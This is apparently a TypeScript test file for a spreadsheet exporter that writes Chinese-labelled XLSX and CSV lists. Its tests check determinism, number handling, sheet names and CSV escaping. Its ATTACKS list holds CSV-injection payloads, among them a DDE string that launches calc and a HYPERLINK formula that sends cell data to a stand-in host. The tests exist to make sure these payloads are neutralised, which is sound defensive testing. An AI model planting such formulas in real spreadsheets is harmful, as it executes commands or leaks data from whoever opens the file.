import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { describe, expect, it, vi } from 'vitest'
import { looksLikeFormula, readCsv } from './csv.ts'
import { type ListCell, writeListCsv, writeListWorkbook } from './list-workbook.ts'
import { cellText, readWorkbook } from './xlsx.ts'
import { readZip } from './zip.ts'

const listed = (rows: readonly (readonly ListCell[])[], name = '清单') =>
  writeListWorkbook({ title: '清单', sheets: [{ name, head: ['甲', '乙'], rows }] })

async function cellsOf(rows: readonly (readonly ListCell[])[]) {
  const read = readWorkbook(await listed(rows))
  if ('fault' in read) throw new Error(read.fault.code)
  return read.sheets[0]?.rows ?? new Map()
}

const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"点这里")',
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '＝1+1',
  '＋1',
  '－1+2',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u0000=1+1',
  '"=1+1"',
  "'=1+1",
  '+86 138-0000-0000',
]

describe('XLSX 清单', () => {
  it('is the same every time', async () => {
    const first = await listed([['甲', { number: '1.5' }]])
    vi.useFakeTimers({ now: new Date('2031-07-08T09:10:11Z'), toFake: ['Date'] })
    try {
      expect(Buffer.compare(await listed([['甲', { number: '1.5' }]]), first)).toBe(0)
    } finally {
      vi.useRealTimers()
    }
  })

  it.each(ATTACKS)('%j is words, not a formula', async (attack) => {
    const bytes = await listed([[attack, { number: attack }]])
    const zip = readZip(bytes)
    const xml = 'files' in zip ? new TextDecoder().decode(zip.files.get('xl/worksheets/sheet1.xml')) : ''
    expect(xml).not.toMatch(/<f[ >]/)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes.slice().buffer)
    for (const address of ['A2', 'B2']) {
      const cell = workbook.getWorksheet('清单')?.getCell(address)
      expect(cell?.type).toBe(ExcelJS.ValueType.String)
      expect(cell?.value).toBe(cellText(attack))
      if (looksLikeFormula(cellText(attack))) expect(cell?.numFmt).toBe('@')
    }
  })

  it('makes numbers of exact decimals only', async () => {
    const cells = await cellsOf([
      [{ number: '4850.09' }, { number: '-12.5' }],
      [{ number: '12345678901234567890' }, '007'],
    ])
    expect([...(cells.get(1)?.values() ?? [])]).toMatchObject([
      { kind: 'number', text: '4850.09' },
      { kind: 'number', text: '-12.5' },
    ])
    expect([...(cells.get(2)?.values() ?? [])]).toMatchObject([
      { kind: 'text', text: '12345678901234567890' },
      { kind: 'text', text: '007' },
    ])
  })

  it('gives every sheet a name that Excel takes', async () => {
    const sheet = { head: ['甲'], rows: [] }
    const names = ['进度/2019?', '进度2019', '', 'History', "'引号'", 'AB', 'ab', '字'.repeat(40)]
    const bytes = await writeListWorkbook({ title: '', sheets: names.map((name) => ({ ...sheet, name })) })
    const read = readWorkbook(bytes)
    expect('sheets' in read && read.sheets.map((one) => one.name)).toEqual([
      '进度2019',
      '进度2019（2）',
      '清单',
      '清单（2）',
      '引号',
      'AB',
      'ab（2）',
      '字'.repeat(31),
    ])
  })

  it('keeps the header in view and puts the note below', async () => {
    const bytes = await writeListWorkbook({
      title: '进度',
      sheets: [{ name: '进度', head: ['单位', '数'], rows: [['甲', { number: '1' }]], note: '=注' }],
    })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes.slice().buffer)
    const sheet = workbook.getWorksheet('进度')
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet?.getCell('A4').value).toBe('=注')
    expect(sheet?.pageSetup.printTitlesRow).toBe('1:1')
  })

  it('opens without any sheet or row', async () => {
    const read = readWorkbook(await writeListWorkbook({ title: '', sheets: [] }))
    expect('sheets' in read && read.sheets.length).toBe(1)
    expect((await cellsOf([])).size).toBe(1)
  })

  it('writes ten thousand rows in time', async () => {
    const rows = Array.from({ length: 10_000 }, (_, at) => [`${at}`, { number: `${at}` }] as const)
    expect((await cellsOf(rows)).size).toBe(10_001)
  }, 20_000)
})

describe('CSV 清单', () => {
  const textOf = (bytes: Uint8Array): string => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)

  it('is UTF-8 with its mark and CRLF', () => {
    expect(textOf(writeListCsv(['甲', '乙'], [['一', { number: '-1.50' }]]))).toBe(
      '\ufeff甲,乙\r\n一,-1.50\r\n',
    )
  })

  it.each(ATTACKS)('%j stays words', (attack) => {
    for (const cell of [attack, { number: attack }]) {
      const line = textOf(writeListCsv(['甲'], [[cell]])).slice('\ufeff甲\r\n'.length)
      expect(looksLikeFormula(line.replace(/^"/, '')), line).toBe(false)
    }
  })

  it.each(['-12.5', '+3', '1,234.00', '-5%', '2020-03-05'])('%s needs no apostrophe', (plain) => {
    expect(textOf(writeListCsv(['甲'], [[plain]]))).not.toContain("'")
  })

  it('law: what was written is read back', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 4 }), (cells) => {
        const { rows } = readCsv(writeListCsv(cells, [cells]), 'a.csv')
        const wanted = cells.map(cellText)
        expect(rows.map((one) => one.cells)).toEqual([wanted, wanted])
      }),
      { seed: 4180, numRuns: 200 },
    )
  })
})
